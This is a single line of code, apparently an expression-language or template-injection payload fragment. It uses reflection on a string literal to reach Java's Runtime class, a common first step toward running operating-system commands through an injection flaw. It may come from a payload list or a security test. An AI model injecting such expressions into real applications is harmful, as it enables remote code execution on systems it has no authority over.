x = ''.class.forName('java.lang.Runtime')
